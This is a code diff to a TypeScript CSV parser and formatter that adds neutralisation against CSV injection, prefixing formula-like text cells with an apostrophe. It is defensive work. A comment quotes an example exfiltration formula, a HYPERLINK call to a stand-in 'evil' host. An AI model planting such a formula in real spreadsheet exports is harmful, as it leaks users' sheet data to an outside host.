@@ -3,6 +3,15 @@
  * with the delimiter detected from the header (',' or ';' — Brazilian open data, the ANP
  * files among them, use ';' and a UTF-8 byte-order mark). Every record keeps the line it
  * starts on, so a bad row is reported by its line in the file.
+ *
+ * CSV injection (OWASP, "CSV Injection"): a spreadsheet opening a CSV runs a cell that begins
+ * with =, +, -, @, tab or carriage return as a formula — a registry name such as
+ * `=HYPERLINK("http://evil/?"&A1)` would leak the sheet or run a command. Every TEXT cell we
+ * write that begins with one of those (or with ', so that the rule can be undone) gets a
+ * leading ' (spreadsheets show it as text); cells that are data numbers — written from
+ * numbers, in the place registries the lon and lat columns only — are left as they are, so a
+ * negative coordinate stays a number. Reading undoes it: a cell that begins with ' loses
+ * that one character (also the text marker spreadsheets themselves put before text).
  */
 import type { PlaceRecord } from '../domain/place.ts';
 import { describeValue, InputError } from '../core/input/validate.ts';
@@ -47,7 +56,7 @@ export function parseCsv(textIn: string, delimiter?: string): CsvTable {
   const n = text.length;
   let atRecordStart = true;
   const endRecord = () => {
-    cells.push(cell);
+    cells.push(unneutralise(cell));
     // A blank line is not a record.
     if (!(cells.length === 1 && cells[0] === '')) records.push({ line: startLine, cells });
     cells = [];
@@ -82,7 +91,7 @@ export function parseCsv(textIn: string, delimiter?: string): CsvTable {
       continue;
     }
     if (c === delim) {
-      cells.push(cell);
+      cells.push(unneutralise(cell));
       cell = '';
       i++;
       continue;
@@ -109,9 +118,30 @@ function quote(v: string, delim: string): string {
   return /["\r\n]/.test(v) || v.includes(delim) ? `"${v.replace(/"/g, '""')}"` : v;
 }
 
+/** Text a spreadsheet would take for a formula (or that begins with the ' that marks text). */
+const FORMULA_START = /^[=+\-@\t\r']/;
+
+/** A text cell as written: with a leading ' when a spreadsheet would take it for a formula. */
+export function neutralise(text: string): string {
+  return FORMULA_START.test(text) ? `'${text}` : text;
+}
+
+/** A cell as read: without the leading ' that marks text. */
+export function unneutralise(cell: string): string {
+  return cell.startsWith("'") ? cell.slice(1) : cell;
+}
+
+/** One cell: a number as it is (a data number), text neutralised and quoted as needed. */
+function cellOf(v: string | number | null | undefined, delim: string): string {
+  if (v === null || v === undefined) return '';
+  if (typeof v === 'number') return String(v);
+  return quote(neutralise(v), delim);
+}
+
+/** A CSV: numbers are written as data numbers, strings as text (neutralised: see above). */
 export function formatCsv(header: readonly string[], rows: Iterable<readonly (string | number | null | undefined)[]>, delim = ','): string {
-  const lines = [header.map((h) => quote(h, delim)).join(delim)];
-  for (const r of rows) lines.push(r.map((v) => (v === null || v === undefined ? '' : quote(String(v), delim))).join(delim));
+  const lines = [header.map((h) => cellOf(h, delim)).join(delim)];
+  for (const r of rows) lines.push(r.map((v) => cellOf(v, delim)).join(delim));
   return `${lines.join('\r\n')}\r\n`;
 }
 
